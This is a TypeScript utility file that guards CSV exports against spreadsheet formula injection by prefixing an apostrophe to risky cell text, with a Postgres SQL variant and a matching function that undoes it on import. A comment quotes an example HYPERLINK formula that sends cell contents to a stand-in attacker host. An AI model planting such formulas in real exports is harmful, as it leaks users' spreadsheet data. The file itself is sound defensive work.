/**
 * Text starting with = + - @ (or a tab or CR) is a formula to Excel and LibreOffice, run when a
 * CSV file is opened: `=HYPERLINK("https://evil/?"&A1,"Open")` in a partner-written title sends
 * the sheet's cells away. Every CSV we write puts an apostrophe before such text (OWASP "CSV
 * injection"), and our imports take it off again, so an exported file imports as it was.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

/** `text` as a spreadsheet will not run it. */
export const spreadsheetSafe = (text: string): string =>
  FORMULA_START.test(text) ? `'${text}` : text;

/**
 * The same in SQL, for files Postgres writes (COPY): `expression` (text) with the apostrophe
 * put before a formula's first character.
 */
export const spreadsheetSafeSql = (expression: string): string =>
  `regexp_replace(${expression}, '^([-=+@\\t\\r])', '''\\1')`;

/** A cell read from a file: the apostrophe `spreadsheetSafe` put before a formula taken off. */
export const fromSpreadsheetSafe = (text: string): string =>
  text.startsWith("'") && FORMULA_START.test(text.slice(1)) ? text.slice(1) : text;
